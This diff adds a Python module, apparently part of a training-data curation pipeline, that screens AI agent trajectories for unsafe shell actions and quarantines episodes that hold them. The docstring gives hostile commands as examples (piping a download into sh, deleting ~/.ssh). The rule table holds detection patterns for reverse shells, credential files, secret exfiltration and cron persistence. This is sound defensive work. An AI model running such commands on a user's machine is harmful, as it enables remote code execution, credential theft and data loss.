@@ -1,0 +1,453 @@
+"""What an action would do outside the sandbox: the command-safety screen over everything trained.
+
+Every other stage judges the final state and whether the observations are true. Neither sees harm
+an action does *outside* the task: in the network-less replay sandbox ``curl -s https://x/x.sh |
+sh`` fails quietly and ``rm -rf ~/.ssh`` finds nothing, so their quiet recorded outputs replay
+true, and an honest fix with one such turn was admitted pristine with that turn as a training
+target (red team, 2026-12-06: 4/4, incl. a script written, run and deleted in one turn). A policy
+trained on it learns to run it on a user's machine, where it does what it says.
+
+So the screen reads what each action *says* it does, wherever an action's text is:
+
+- every call's shell line (:attr:`.calls.CallRecord.shell_command`, the one rule of which calls run
+  a line), and an argv list given as a call's ``command`` / ``cmd`` / ``argv`` (joined as a line);
+- every other string a call passes (an editor's ``file_text``, a write tool's ``content``, a
+  heredoc inside a line): a script the episode writes and then runs is screened as it is written,
+  whether or not the final diff still holds it;
+- the lines the final diff adds to a file that is not Python (a ``.envrc``, a ``package.json``
+  ``postinstall``, a ``build.sh``, a CI file: other tools run them on their own; the Python files
+  are stage 2's, :mod:`.pysource`).
+
+:data:`RULES` is the one table of what is unsafe and what follows. ``quarantine`` rules (remote
+code run, a delete or write outside the workspace, credentials read or sent out, a remote shell)
+send the whole episode to ``tamper_quarantine`` with reason :data:`UNSAFE_ACTION`: an episode that
+did it is never a demonstration, and its other turns lead up to it. A hard negative too: the
+preference stage trains on its turns up to the divergence, and a shared prefix with an unsafe turn
+is no safe "chosen" side either. ``context`` rules (force-pushing, skipping hooks, ``sudo``,
+installing from a URL, switching TLS checks off) are risky but ordinary in a throwaway container:
+the episode stays, and the turn is context, never a target (:mod:`.roles`, reason
+``unsafe_action``).
+
+Text, not a shell: the screen matches shapes over the line as written and with its quotes and
+backslashes removed (``c"ur"l`` is ``curl`` to bash), and splits a line into simple commands
+(``shlex``, as :func:`.replay.simple_command_words` does) only where a rule needs a command's
+arguments (which paths a delete touches). A workspace path is one under the repository root the
+log records (:func:`.replay.repository_root`), or relative and not climbing out with ``..``;
+scratch space (``/tmp``, ``/var/tmp``, ``/dev/null``) is anyone's.
+"""
+
+from __future__ import annotations
+
+import re
+import shlex
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from pathlib import PurePosixPath
+
+from trajectory_platform.curation.verify.calls import CallRecord, call_records
+from trajectory_platform.curation.verify.context import DiffView
+from trajectory_platform.curation.verify.replay import repository_root
+from trajectory_platform.curation.verify.verdicts import Finding
+from trajectory_platform.traces.record import Episode
+
+UNSAFE_ACTION = "unsafe_action"
+"""The reason key: the episode's ``sink_reason`` (quarantine rules) or the turn's context reason
+(context rules), and the code of every finding the screen makes."""
+
+QUARANTINE, CONTEXT = "quarantine", "context"
+
+_FETCH = r"(?:curl|wget|fetch|aria2c|http|httpie|invoke-webrequest|iwr|irm|invoke-restmethod)"
+_SHELLS = r"(?:sh|bash|zsh|dash|ksh|fish|source|iex|invoke-expression|\$\{?SHELL\}?)"
+_SCRIPTS = r"(?:python[\d.]*|perl|ruby|node|php)"
+_RUN_PREFIX = r"(?:(?:sudo|env|command|exec|nohup)\s+(?:-\S+\s+)*)*(?:/\S*/)?"
+_INTERP = rf"{_RUN_PREFIX}(?:{_SHELLS}|{_SCRIPTS})"
+"""An interpreter, however it is started."""
+_STDIN_INTERP = rf"{_RUN_PREFIX}(?:{_SHELLS}(?!\s+-\w*c\b)|{_SCRIPTS}(?!\s+-\w*[cmerE]\b))"
+"""An interpreter that runs what it reads on its input: not one given its program as an argument
+(``python3 -m json.tool`` and ``perl -ne '...'`` read a download as data)."""
+_END = r"(?=\s|$|[)'\";|&])"
+_NET = r"(?:curl|wget|nc|ncat|netcat|socat|telnet|ssh|scp)"
+_CREDENTIALS = (
+    r"(?:~|\$\{?home\}?|/root|/home/[^/\s]+)/\.(?:ssh|aws|gnupg|netrc|git-credentials|docker/config\.json"
+    r"|kube/config|pypirc|npmrc|config/gcloud|config/gh/hosts|azure|password-store)|/etc/(?:shadow|sudoers)\b"
+    r"|\bid_(?:rsa|ed25519|ecdsa|dsa)\b|\baws\s+configure\s+get\b|\bgcloud\s+auth\s+print|\bgh\s+auth\s+token\b"
+)
+_SECRET_VARIABLE = r"\$\{?\w*(?:secret|token|password|passwd|api_key|access_key|private_key)\w*"
+
+
+def _dequoted(text: str) -> str:
+    """``text`` with quotes and backslashes removed: to bash ``c"ur"l`` and ``c\\url`` are ``curl``."""
+    return re.sub(r"[\"'\\]", "", text)
+
+
+def _search(compiled: re.Pattern[str], text: str) -> bool:
+    return compiled.search(text) is not None or compiled.search(_dequoted(text)) is not None
+
+
+def _pattern(text: str) -> Callable[[str, str | None], bool]:
+    """A rule's test by a shape over the text, as written or with its quotes removed (``^`` and
+    ``$`` at each line: a script's lines are commands)."""
+    compiled = re.compile(text, re.IGNORECASE | re.MULTILINE)
+    return lambda line, _root: _search(compiled, line)
+
+
+@dataclass(frozen=True)
+class Rule:
+    """One unsafe shape: its name (a finding's detail names it, never the record's text), its
+    severity (:data:`QUARANTINE` or :data:`CONTEXT`), why, and the test over an action's text."""
+
+    name: str
+    severity: str
+    why: str
+    matches: Callable[[str, str | None], bool]
+
+
+_SCRATCH = (
+    "/tmp",
+    "/var/tmp",
+    "/dev/null",
+    "/dev/stdout",
+    "/dev/stderr",
+    "/dev/tty",
+    "/dev/fd",
+    "/proc/self/fd",
+)
+"""Scratch space any process may use: a path under these is never outside the workspace."""
+_SYSTEM = (
+    *("/etc", "/usr", "/bin", "/sbin", "/lib", "/lib64", "/boot", "/sys", "/proc", "/dev", "/var", "/opt"),
+    *("/root", "/home", "/srv", "/mnt", "/media", "/snap"),
+)
+"""The machine's own folders and other users' homes: outside any workspace, root recorded or not."""
+_REMOVING = frozenset(
+    {"rm", "rmdir", "unlink", "shred", "truncate", "chmod", "chown", "chgrp", "mv", "srm", "wipe"}
+)
+"""Programs that remove or take away what their path arguments name."""
+_LAST_IS_TARGET = frozenset({"cp", "rsync", "install", "ln"})
+"""Programs that write only their last path argument (the others are read)."""
+_PREFIXES = frozenset({"sudo", "doas", "env", "command", "exec", "nohup", "time", "xargs", "nice"})
+"""Words that run the command after them."""
+_SEPARATORS = frozenset({";", "&&", "||", "|", "&", "(", ")", "|&", ";;"})
+_REDIRECTS = frozenset({">", ">>", "&>", "&>>", ">|"})
+"""Output redirections as ``shlex`` splits them (``2>`` is ``2`` then ``>``)."""
+
+
+def _bare(word: str) -> str:
+    """A word as a path: without the punctuation a quoted line inside code leaves on it
+    (``os.system('rm -rf ~'),`` gives ``~'),``)."""
+    return word.strip().rstrip(",;)]}\"'")
+
+
+def _under(path: str, folder: str) -> bool:
+    return path == folder or path.startswith(folder.rstrip("/") + "/")
+
+
+def outside_workspace(word: str, root: str | None, removes: bool = True) -> bool:
+    """Whether a path an action changes lies outside the workspace: the home folder however it is
+    spelled, the file system's root or a system folder (:data:`_SYSTEM`); and, for an action that
+    removes or takes away (``removes``: a delete, a move, a permission change, a truncation), also
+    an absolute path outside the recorded repository root (when the log records one) and a relative
+    path that climbs out (``../..``). A write that only creates or overwrites a file next to the
+    repository (OpenHands' ``/workspace/test.c`` beside ``/workspace/<repo>``) is the agent's own
+    scratch. Scratch space (:data:`_SCRATCH`) is inside."""
+    path = _bare(word)
+    if path.startswith("~") or re.match(r"\$\{?HOME\b", path):
+        return True
+    if path.startswith("/"):
+        if root is not None and root != "/" and _under(path, root):
+            return False
+        if any(_under(path, scratch) for scratch in _SCRATCH):
+            return False
+        first = "/" + path.lstrip("/").split("/", 1)[0]
+        everywhere = path.rstrip("/*") == "" or any(c in first for c in "*?[")  # /, /*, /*/x
+        return everywhere or first in _SYSTEM or (removes and root is not None and root != "/")
+    depth = 0
+    for part in PurePosixPath(path).parts if removes else ():
+        depth += -1 if part == ".." else (0 if part == "." else 1)
+        if depth < 0:
+            return True
+    return False
+
+
+NESTED_DEPTH = 4
+"""How deep :func:`simple_commands` reads lines quoted inside lines (``bash -c '...'``, a Python
+``os.system('...')`` inside ``python -c "..."``, a heredoc script's ``subprocess.run('...')``)."""
+
+
+def simple_commands(line: str, depth: int = NESTED_DEPTH) -> Iterator[list[str]]:
+    """The simple commands of a shell line (words, quotes removed), split at list operators, pipes
+    and parentheses, and those of every quoted word that is itself a line (it holds a space): the
+    line ``bash -lc '...'``, ``sh -c``, ``su -c`` or a script's ``os.system('...')`` runs. A line
+    ``shlex`` cannot split (an open quote) yields its words split at spaces."""
+    lexer = shlex.shlex(line.replace("\n", " ; "), posix=True, punctuation_chars=True)
+    lexer.whitespace_split = True
+    try:
+        words = list(lexer)
+    except ValueError:
+        words = line.split()
+    command: list[str] = []
+    for word in words:
+        if word in _SEPARATORS:
+            if command:
+                yield command
+            command = []
+        else:
+            command.append(word)
+            if depth > 0 and re.search(r"\s", word):
+                yield from simple_commands(word, depth - 1)
+    if command:
+        yield command
+
+
+def _targets(words: list[str]) -> Iterator[tuple[str, bool]]:
+    """The paths a simple command changes, each with whether the change removes or takes away
+    (:func:`outside_workspace`): a removing program's arguments, ``find``'s start folder when it
+    deletes, ``dd of=``; and the files a write creates or overwrites: redirections, a copy's
+    destination, ``tee``'s and ``sed -i``'s files."""
+    for index, word in enumerate(words[:-1]):
+        if word in _REDIRECTS:
+            yield words[index + 1], False
+    while words and (words[0] in _PREFIXES or re.fullmatch(r"\w+=.*", words[0])):
+        words = words[1:]
+    if not words:
+        return
+    program, arguments = words[0].rsplit("/", 1)[-1], [w for w in words[1:] if not w.startswith("-")]
+    if program in _REMOVING:
+        yield from ((argument, True) for argument in arguments)
+    elif program == "tee":
+        yield from ((argument, False) for argument in arguments)
+    elif program in _LAST_IS_TARGET and arguments:
+        yield arguments[-1], False
+    elif program == "dd":
+        yield from ((w[3:], True) for w in words if w.startswith("of="))
+    elif program == "sed" and any(w.startswith(("-i", "--in-place")) for w in words[1:]):
+        yield from ((argument, False) for argument in arguments[1:])
+    elif program == "find" and any(w in ("-delete", "rm", "shred") for w in words):
+        yield from ((w, True) for w in words[1:2] if not w.startswith(("-", "(", "!")))
+
+
+def _destructive_outside(line: str, root: str | None) -> bool:
+    """Whether a command of the line changes a path outside the workspace; after a ``cd`` out of it
+    (``cd ~ && rm -rf .ssh``) a relative path is outside too."""
+    away = False
+    for command in simple_commands(line):
+        if command[:1] == ["cd"]:
+            away = len(command) == 1 or outside_workspace(command[1], root, removes=False)
+            continue
+        for target, removes in _targets(command):
+            relative = not _bare(target).startswith(("/", "~", "$"))
+            if outside_workspace(target, root, removes) or (away and relative):
+                return True
+    return False
+
+
+_FETCH_EXECUTE = re.compile(
+    rf"\b{_FETCH}\b[^\n;]*?\|\s*{_STDIN_INTERP}{_END}"  # curl ... | [sudo] sh
+    # sh -c "$(curl ...)", bash <(curl ...), eval "$(curl ...)"
+    rf"|(?:{_INTERP}|\beval|\.)\s+(?:-\S+\s+)*(?:<\s*)?[\"']?(?:\$\(|<\(|`)\s*{_FETCH}\b"
+    rf"|\bbase64\s+(?:-\w*d\w*|--decode)\b[^\n;]*?\|\s*{_STDIN_INTERP}{_END}"  # ... | base64 -d | sh
+    rf"|\beval\b\s*[\"']?(?:\$\(|`)[^\n]*\bbase64\s+(?:-\w*d\w*|--decode)"  # eval "$(... | base64 -d)"
+    # exec(urlopen(...).read())
+    r"|\b(?:exec|eval)\s*\([^\n]*(?:urlopen|requests\.get|httpx\.get|urllib\.request)"
+    r"|\b(?:iex|invoke-expression)\b[^\n]*\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)\b",
+    re.IGNORECASE,
+)
+
+
+RULES: tuple[Rule, ...] = (
+    Rule(
+        "fetch_execute",
+        QUARANTINE,
+        "code downloaded and run unseen: a download piped, substituted or decoded into an "
+        "interpreter, or saved and then run",
+        lambda line, _root: _search(_FETCH_EXECUTE, line) or runs_download(line, set()),
+    ),
+    Rule(
+        "remote_shell",
+        QUARANTINE,
+        "a shell handed to a remote host (/dev/tcp, nc -e)",
+        _pattern(r"/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat)\b[^\n;]*\s-[ec]\b|\bsocat\b[^\n;]*\bexec:"),
+    ),
+    Rule(
+        "destructive_outside",
+        QUARANTINE,
+        "a delete, move, permission change or write outside the workspace (home, system folders, "
+        "absolute paths outside the recorded root)",
+        _destructive_outside,
+    ),
+    Rule(
+        "persistence",
+        QUARANTINE,
+        "something set to run again later on the machine (a crontab, a service enabled)",
+        _pattern(r"\bcrontab\b|/etc/cron|\bsystemctl\s+(?:--user\s+)?enable\b|\blaunchctl\s+load\b"),
+    ),
+    Rule(
+        "credential_access",
+        QUARANTINE,
+        "the user's credentials read or touched (~/.ssh, ~/.aws, keys, /etc/shadow)",
+        _pattern(_CREDENTIALS),
+    ),
+    Rule(
+        "environment_exfiltration",
+        QUARANTINE,
+        "the environment or a secret variable sent to the network",
+        _pattern(
+            rf"\b(?:env|printenv|set|export\s+-p)\b[^\n;]*\|\s*{_NET}\b"
+            rf"|\b{_NET}\b[^\n;]*(?:\$\((?:env|printenv)\)|`(?:env|printenv)`|\$\(cat\s[^)]*\.env\b|{_SECRET_VARIABLE})"
+            r"|os\.environ\b[^\n]*(?:requests\.\w+|urlopen|http\.client|httpx\.\w+)\("
+            r"|(?:requests\.\w+|urlopen|httpx\.\w+)\([^\n]*os\.environ\b"
+        ),
+    ),
+    Rule(
+        "force_push",
+        CONTEXT,
+        "a force push rewrites a shared remote's history",
+        _pattern(r"\bgit\b[^\n;|&]*\bpush\b[^\n;|&]*(?:\s--force\S*|\s-\w*f\w*\b|\s\+\S+)"),
+    ),
+    Rule(
+        "skip_hooks",
+        CONTEXT,
+        "a commit or push that skips the repository's hooks (--no-verify)",
+        _pattern(r"\bgit\b[^\n;|&]*\s--no-verify\b"),
+    ),
+    Rule(
+        "privilege_escalation",
+        CONTEXT,
+        "a command run as root (sudo, su, doas)",
+        # where a command starts (prose in another tool's argument, "su casa", is no command)
+        _pattern(
+            r"(?:^|[;&|(`'\"]|\$\()\s*(?:sudo|doas)\s+\S|(?:^|[;&|(`'\"])\s*su(?:\s+-\w*)*(?:\s+root)?\s*(?:$|[;&|)]|-c\b)"
+        ),
+    ),
+    Rule(
+        "remote_install",
+        CONTEXT,
+        "a package installed straight from a URL or a repository (its build code runs)",
+        _pattern(
+            r"\b(?:pip[\d.]*|uv\s+pip|npm|yarn|pnpm|gem|cargo)\s+(?:install|add)\b[^\n;|&]*"
+            r"(?:https?://|git\+|\bgithub:)"
+        ),
+    ),
+    Rule(
+        "insecure_transport",
+        CONTEXT,
+        "a download with certificate checks switched off",
+        _pattern(
+            rf"\b{_FETCH}\b[^\n;|&]*(?:\s-k\b|\s--insecure\b|\s--no-check-certificate\b)|\s--trusted-host\b"
+        ),
+    ),
+)
+"""The one table of unsafe actions: what each shape is, and whether the episode is quarantined
+(:data:`QUARANTINE`) or only the turn is kept out of the targets (:data:`CONTEXT`)."""
+
+
+def runs_download(line: str, saved: set[str]) -> bool:
+    """Whether ``line`` runs a file a download saved (``sh F``, ``./F``, ``source F``,
+    ``python F``), where ``saved`` holds the names earlier downloads saved (``-o F``, ``-O F``,
+    ``> F``, or the URL's own name, as ``wget URL`` and ``curl -O URL`` save it), and this line's
+    downloads are added to it: the caller keeps it across an episode's calls, so a download in one
+    turn and its run in a later one is a run too. ``curl -o f URL && cat f`` is no run."""
+    for words in simple_commands(line):
+        program = words[0].rsplit("/", 1)[-1] if words else ""
+        if re.fullmatch(_FETCH, program, re.IGNORECASE):
+            for index, word in enumerate(words[:-1]):  # -o F, -O F, a cluster ending in one (-sSLo F)
+                if re.fullmatch(r"-[a-zA-Z]*[oO]|--output(?:-document)?|>>?", word):
+                    saved.add(PurePosixPath(_bare(words[index + 1])).name)
+            saved.update(
+                PurePosixPath(_bare(w.split("=", 1)[1])).name for w in words if w.startswith("--output")
+            )
+            saved.update(PurePosixPath(_bare(w)).name for w in words if "://" in w)
+            continue
+        rest = [_bare(w) for w in words if w not in _PREFIXES and not w.startswith("-")]
+        if not rest or not saved:
+            continue
+        if PurePosixPath(rest[0]).name in saved and rest[0].startswith(("./", "/")):
+            return True
+        interpreter = (
+            re.fullmatch(f"{_SHELLS}|{_SCRIPTS}", rest[0].rsplit("/", 1)[-1], re.IGNORECASE) or rest[0] == "."
+        )
+        if interpreter and any(PurePosixPath(w).name in saved for w in rest[1:2] if not re.search(r"\s", w)):
+            return True
+    return False
+
+
+@dataclass(frozen=True)
+class UnsafeHit:
+    """One unsafe shape found: the rule, and where (an assistant event, or a changed file)."""
+
+    rule: Rule
+    event_index: int | None = None
+    path: str | None = None
+
+    def finding(self) -> Finding:
+        where = f"event {self.event_index}" if self.path is None else "a file the final diff changes"
+        detail = f"{self.rule.name} ({self.rule.severity}): {self.rule.why}, in {where}"
+        return Finding(UNSAFE_ACTION, detail, event_index=self.event_index, path=self.path)
+
+
+def screen_text(text: str, root: str | None = None) -> list[Rule]:
+    """The rules an action's text matches (a shape's rule reads it as written and with its quotes
+    removed; a rule that splits the line into commands leaves quoting to ``shlex``, as bash does)."""
+    return [rule for rule in RULES if rule.matches(text, root)]
+
+
+def _argv(record: CallRecord) -> str | None:
+    """An argv list a call gives in place of a line (``["bash", "-lc", "..."]``), joined."""
+    for key in ("command", "cmd", "argv", "args"):
+        value = (record.arguments or {}).get(key)
+        if isinstance(value, list) and value and all(isinstance(v, str) for v in value):
+            return shlex.join(value) + "\n" + "\n".join(value)
+    return None
+
+
+def action_texts(record: CallRecord) -> list[str]:
+    """Every text of a call an unsafe shape may hide in: its shell line, an argv list, and every
+    string it passes (what an editor or write tool writes, a heredoc's script)."""
+    texts = [t for t in (record.shell_command, _argv(record)) if t]
+    texts.extend(value for _key, value in record.string_values() if value not in texts)
+    if record.arguments is None and record.call.arguments and record.call.arguments not in texts:
+        texts.append(record.call.arguments)
+    return texts
+
+
+def unsafe_actions(episode: Episode) -> list[UnsafeHit]:
+    """Every unsafe shape an episode's calls hold, one hit per call and rule, in order (a download
+    run in a later call than the one that saved it included: :func:`runs_download`)."""
+    root = repository_root(episode)
+    fetch_execute = next(rule for rule in RULES if rule.name == "fetch_execute")
+    saved: set[str] = set()
+    hits: list[UnsafeHit] = []
+    for record in call_records(episode):
+        found: dict[str, Rule] = {}
+        for text in action_texts(record):
+            found.update((rule.name, rule) for rule in screen_text(text, root))
+        if record.shell_command is not None and runs_download(record.shell_command, saved):
+            found[fetch_execute.name] = fetch_execute
+        hits.extend(UnsafeHit(rule, event_index=record.turn) for rule in found.values())
+    return hits
+
+
+def unsafe_files(diff: DiffView | None, root: str | None = None) -> list[UnsafeHit]:
+    """Unsafe shapes in the lines the final diff adds to files that are not Python (the shapes
+    another tool runs on its own: ``.envrc``, ``package.json`` scripts, ``*.sh``, CI files)."""
+    if diff is None:
+        return []
+    python = set(diff.code_paths())
+    hits: list[UnsafeHit] = []
+    for path in diff.paths:
+        if path in python:
+            continue
+        text = "\n".join(diff.added.get(path, []))
+        hits.extend(UnsafeHit(rule, path=path) for rule in screen_text(text, root))
+    return hits
+
+
+def quarantining(episode: Episode, diff: DiffView | None) -> list[Finding]:
+    """The findings that quarantine the episode (:data:`QUARANTINE` rules, in its calls or in the
+    non-Python files its diff changes); empty when none."""
+    hits = unsafe_actions(episode) + unsafe_files(diff, repository_root(episode))
+    return [hit.finding() for hit in hits if hit.rule.severity == QUARANTINE]
+
+
+def unsafe_turns(episode: Episode) -> set[int]:
+    """Assistant turns holding any unsafe shape: never a training target (:mod:`.roles`)."""
+    return {hit.event_index for hit in unsafe_actions(episode) if hit.event_index is not None}
